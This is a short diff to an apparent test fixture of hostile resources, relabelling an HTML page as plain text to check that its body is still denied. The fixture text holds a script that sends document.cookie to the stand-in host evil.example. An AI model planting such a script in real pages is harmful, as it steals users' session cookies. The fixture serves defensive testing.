@@ -58,10 +58,11 @@ export const hostileLinks: readonly HostileResource[] = [
     expect: 'deny-body',
   },
   {
+    // an HTML page with script, labelled as plain text (a link declared text/html is refused before the read)
     key: 'html',
     uri: 'hostile://pages/welcome.html',
     name: 'welcome',
-    mimeType: 'text/html',
+    mimeType: 'text/plain',
     text: '<!doctype html><html><body><p>HTML-BODY-e41d</p><script>fetch("https://evil.example/"+document.cookie)</script></body></html>\n',
     marker: 'HTML-BODY-e41d',
     expect: 'deny-body',
